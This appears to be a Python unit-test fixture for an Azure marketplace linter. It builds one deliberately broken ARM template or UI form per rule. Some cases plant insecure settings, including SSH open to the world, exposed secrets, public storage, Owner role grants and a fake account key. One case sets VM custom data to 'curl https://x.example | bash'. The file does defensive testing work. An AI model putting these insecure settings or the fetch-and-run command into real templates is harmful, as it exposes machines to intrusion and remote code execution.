"""Bad templates and forms of Azure, one for each rule: ours with one thing spoiled."""

from typing import Any

from tests.unit.marketplace_stage import Change, add, drop, part, put

_PARAMETERS = "parameters"
GROUP, SSH, NETWORK, ADDRESS, BALANCER, INTERFACE, MACHINE, RIGHT = (
    f"resources[{number}]" for number in range(8)
)
_VM = f"{MACHINE}.properties"
_RULES = f"{GROUP}.properties.securityRules"
_SECRET = {"type": "securestring"}


def _deployment(**properties: Any) -> dict[str, Any]:
    return {"type": "Microsoft.Resources/deployments", "apiVersion": "2022-09-01", "name": "x",
            "properties": {"mode": "Incremental", **properties}}  # fmt: skip


def _both(*changes: Change) -> Change:
    def change(document: Any) -> Any:
        for each in changes:
            document = each(document)
        return document

    return change


def _named_by_an_expression(document: Any) -> Any:
    document["variables"]["[concat('a')]"] = "x"
    return document


_OPEN = {"direction": "Inbound", "access": "Allow", "protocol": "Tcp", "priority": 110,
         "sourceAddressPrefix": "*", "sourcePortRange": "*", "destinationAddressPrefix": "*",
         "destinationPortRange": "22"}  # fmt: skip
_WITH_SECRET = put("parameters.key", _SECRET)
_KEY = "[parameters('key')]"
_INNER = {"resources": [], "outputs": {"x": {"type": "string", "value": _KEY}}}

ARM: tuple[tuple[str, str, Change], ...] = (
    ("AZ-01", "schema", put("$schema", "https://schema.example/template.json#")),
    ("AZ-01", "content version", put("contentVersion", "1")),
    ("AZ-02", "unknown part", put("resource", [])),
    ("AZ-02", "no parameters", drop("parameters")),
    ("AZ-03", "version by a parameter", put(f"{MACHINE}.apiVersion", "[parameters('vmName')]")),
    ("AZ-04", "old version", put(f"{MACHINE}.apiVersion", "2017-03-30")),
    ("AZ-05", "preview", put(f"{MACHINE}.apiVersion", "2024-03-01-preview")),
    ("AZ-05", "preview in a reference",
     put("outputs.machine.value", "[reference('x', '2024-03-01-preview').id]")),
    ("AZ-06", "no location", drop("parameters.location")),
    ("AZ-06", "one region", put("parameters.location.defaultValue", "westeurope")),
    ("AZ-06", "some regions", put("parameters.location.allowedValues", ["westeurope"])),
    ("AZ-07", "location written out", put(f"{MACHINE}.location", "westeurope")),
    ("AZ-07", "the group's location", put(f"{MACHINE}.location", "[resourceGroup().location]")),
    ("AZ-08", "asked in vain", put("parameters.more", {"type": "string"})),
    ("AZ-09", "variable in vain", put("variables.more", "x")),
    ("AZ-10", "misspelt parameter", put(f"{_VM}.hardwareProfile.vmSize", "[parameters('size')]")),
    ("AZ-10", "misspelt variable", put(f"{ADDRESS}.name", "[variables('adress')]")),
    ("AZ-11", "address of Azure",
     put("outputs.machine.value", "https://shop.blob.core.windows.net/x")),
    ("AZ-12", "empty", put(f"{_VM}.licenseType", "")),
    ("AZ-13", "limit as a text", put("parameters.diskSizeGB.minValue", "30")),
    ("AZ-14", "expression as a name", _named_by_an_expression),
    ("AZ-15", "version of somebody", put(
        f"{MACHINE}.apiVersion", "[providers('Microsoft.Compute', 'x').apiVersions[0]]")),
    ("AZ-16", "id written out", put(
        f"{_VM}.networkProfile.networkInterfaces[0].id", "/subscriptions/1/x")),
    ("AZ-16", "id by hand", put(
        f"{_VM}.networkProfile.networkInterfaces[0].id",
        "[concat('/subscriptions/', parameters('vmName'))]")),
    ("AZ-17", "too much in resourceId", put(
        f"{_VM}.networkProfile.networkInterfaces[0].id",
        "[resourceId(subscription().subscriptionId, 'Microsoft.Network/x', 'y')]")),
    ("AZ-18", "dependency by hand", put(
        f"{MACHINE}.dependsOn[0]", "[concat('Microsoft.Network/networkInterfaces/', 'x')]")),
    ("AZ-18", "waits for what may not be", add(
        f"{MACHINE}.dependsOn", "[concat(variables('groupName'), '/ssh')]")),
    ("AZ-19", "debug", add("resources", _deployment(
        debugSetting={"detailLevel": "requestContent"}))),
    ("AZ-20", "half of the artefacts", put("parameters._artifactsLocation", {"type": "string"})),
    ("AZ-20", "artefacts from elsewhere", _both(
        put("parameters._artifactsLocation", {"type": "string", "defaultValue": "https://x"}),
        put("parameters._artifactsLocationSasToken", {"type": "securestring"}))),
    ("AZ-21", "template from elsewhere", add("resources", _deployment(
        templateLink={"uri": "https://x.example/t.json"}))),
    ("AZ-22", "too many outputs", put("outputs", {
        f"o{number}": {"type": "string", "value": "x"} for number in range(65)})),
    ("AZ-30", "secret by default", put("parameters.key", {**_SECRET, "defaultValue": "x"})),
    ("AZ-31", "secret as a string", put("parameters.adminPassword", {"type": "string"})),
    ("AZ-32", "secret told", _both(
        _WITH_SECRET, put("outputs.key", {"type": "string", "value": _KEY}))),
    ("AZ-32", "keys told", put("outputs.keys", {
        "type": "string", "value": "[listKeys(parameters('vmName'), '2023-01-01').keys[0]]"})),
    ("AZ-32", "called a secret", put("outputs.adminPassword", {
        "type": "string", "value": "x"})),
    ("AZ-33", "everybody's account", put(f"{_VM}.osProfile.adminUsername", "azureuser")),
    ("AZ-33", "everybody's account in a variable", _both(
        put("variables.admin", "azureuser"),
        put(f"{_VM}.osProfile.adminUsername", "[variables('admin')]"))),
    ("AZ-34", "passwords allowed", put(
        f"{_VM}.osProfile.linuxConfiguration.disablePasswordAuthentication", False)),
    ("AZ-34", "password given", _both(_WITH_SECRET, put(f"{_VM}.osProfile.adminPassword", _KEY))),
    ("AZ-35", "no trusted launch", drop(f"{_VM}.securityProfile")),
    ("AZ-35", "no secure boot", put(
        f"{_VM}.securityProfile.uefiSettings.secureBootEnabled", False)),
    ("AZ-36", "one size", put(f"{_VM}.hardwareProfile.vmSize", "Standard_D2s_v5")),
    ("AZ-37", "one version", put(f"{_VM}.storageProfile.imageReference.version", "1.0.0")),
    ("AZ-37", "preview of an image", put(
        f"{_VM}.storageProfile.imageReference.sku", "standard-preview")),
    ("AZ-38", "old identity", add("resources", {
        "type": "Microsoft.Compute/virtualMachines/extensions", "apiVersion": "2024-07-01",
        "name": "x", "properties": {"type": "ManagedIdentityExtensionForLinux"}})),
    ("AZ-39", "secret in a command", _both(_WITH_SECRET, add("resources", {
        "type": "Microsoft.Compute/virtualMachines/extensions", "apiVersion": "2024-07-01",
        "name": "x", "properties": {"settings": {"commandToExecute": _KEY}}}))),
    ("AZ-40", "fetched and run", put(
        f"{_VM}.osProfile.customData", "[base64('curl https://x.example | bash')]")),
    ("AZ-40", "secret in custom data", _both(
        _WITH_SECRET, put(f"{_VM}.osProfile.customData", "[base64(parameters('key'))]"))),
    ("AZ-41", "secret in a nested history", _both(
        _WITH_SECRET, add("resources", _deployment(template=_INNER)))),
    ("AZ-42", "SSH open", add(_RULES, {"name": "x", "properties": _OPEN})),
    ("AZ-42", "SSH within a range", add(_RULES, {
        "name": "x", "properties": {**_OPEN, "destinationPortRange": "20-30",
                                    "sourceAddressPrefix": "Internet"}})),
    ("AZ-42", "SSH open by a rule apart", put(
        f"{SSH}.properties.sourceAddressPrefix", "0.0.0.0/0")),
    ("AZ-43", "world by default", put("parameters.clientAddressPrefix.defaultValue", "*")),
    ("AZ-44", "a port is no health", put(
        f"{BALANCER}.properties.probes[0].properties.protocol", "Tcp")),
    ("AZ-44", "no probe", put(f"{BALANCER}.properties.probes", [])),
    ("AZ-45", "nobody looks", drop(BALANCER)),
    ("AZ-46", "contributor", put(
        "variables.metricsPublisher", "b24988ac-6180-42a0-ab88-20f7382dd24c")),
    ("AZ-46", "owner, written out", put(
        f"{RIGHT}.properties.roleDefinitionId", "8e3af657-a8ff-443c-a75c-2fe8c4bcb635")),
    ("AZ-47", "public storage", add("resources", {
        "type": "Microsoft.Storage/storageAccounts", "apiVersion": "2023-01-01", "name": "x",
        "properties": {"allowBlobPublicAccess": True}})),
    ("AZ-48", "public address", put(
        f"{INTERFACE}.properties.ipConfigurations[0].properties.publicIPAddress",
        {"id": "[resourceId('x', 'y')]"})),
    ("AZ-49", "storage key", put(
        "variables.tags.key", "DefaultEndpointsProtocol=https;AccountKey=" + "A" * 60)),
)  # fmt: skip

_STEP = "parameters.steps[0].elements"
_BASIC = "parameters.basics[0]"
_BOX = {"name": "password", "type": "Microsoft.Common.PasswordBox", "toolTip": "x",
        "label": {"password": "a", "confirmPassword": "b"},
        "constraints": {"required": True, "regex": "^.{4,}$", "validationMessage": "x"},
        "options": {"hideConfirmation": False}}  # fmt: skip

UI: tuple[tuple[str, str, Change], ...] = (
    ("UI-01", "handler", put("handler", "Microsoft.Compute.MultiVm")),
    ("UI-01", "version", put("version", "0.1.1-preview")),
    ("UI-01", "schema", drop("$schema")),
    ("UI-02", "no outputs", drop("parameters.outputs")),
    ("UI-02", "step without a name", drop("parameters.steps[0].label")),
    ("UI-02", "unknown part", put("parameters.output", {})),
    ("UI-03", "no kind of field", put(f"{_BASIC}.type", "Contoso.TextBox")),
    ("UI-03", "name taken", add(_STEP, {"name": "vmSize", "type": "Microsoft.Common.TextBlock"})),
    ("UI-04", "no tip", drop(f"{_BASIC}.toolTip")),
    ("UI-05", "empty", put(f"{_BASIC}.options", {})),
    ("UI-06", "any text", drop(f"{_BASIC}.constraints.regex")),
    ("UI-06", "not from the beginning", put(f"{_BASIC}.constraints.regex", "[a-z]$")),
    ("UI-06", "no message", drop(f"{_BASIC}.constraints.validationMessage")),
    ("UI-07", "validation without words", put(
        f"{_BASIC}.constraints.validations", [{"regex": "^a$"}])),
    ("UI-08", "short password", add(_STEP, _BOX)),
    ("UI-08", "typed once", add(_STEP, {
        **_BOX, "constraints": {"regex": "^.{12,}$", "validationMessage": "x"},
        "options": {"hideConfirmation": True}})),
    ("UI-09", "user by default", put(f"{_STEP}[3].defaultValue", "azureuser")),
    ("UI-10", "no such field", put("parameters.outputs.vmName", "[basics('name')]")),
    ("UI-10", "no such step", put("parameters.outputs.vmName", "[steps('vm').name]")),
    ("UI-11", "no location", drop("parameters.outputs.location")),
    ("UI-13", "no label", drop(f"{_BASIC}.label")),
    ("UI-13", "unknown key", put(f"{_BASIC}.default", "x")),
    ("UI-13", "unknown constraint", put(f"{_BASIC}.constraints.regexp", "^a$")),
    ("UI-14", "no choice", put(f"{_STEP}[2].constraints.allowedValues", [])),
    ("UI-14", "other default", put(f"{_STEP}[2].defaultValue", "Perhaps")),
    ("UI-12", "storage key", put(f"{_BASIC}.toolTip", "AccountKey=" + "A" * 60)),
)  # fmt: skip

PACKAGE: tuple[tuple[str, str, Change], ...] = (
    ("UI-20", "no such parameter", part("ui", put("parameters.outputs.more", "[location()]"))),
    ("UI-20", "not asked", part("ui", drop("parameters.outputs.sshPublicKey"))),
    ("UI-21", "secret shown", part("template", put("parameters.sshPublicKey", _SECRET))),
    ("UI-22", "size refused", part("ui", add(f"{_STEP}[0].recommendedSizes", "Standard_X1"))),
    ("UI-22", "any size", part("ui", _both(
        drop(f"{_STEP}[0].recommendedSizes"), drop(f"{_STEP}[0].constraints")))),
    ("UI-23", "choice refused", part("template", put(
        f"{_PARAMETERS}.settingMode.allowedValues", ["small"]))),
)  # fmt: skip
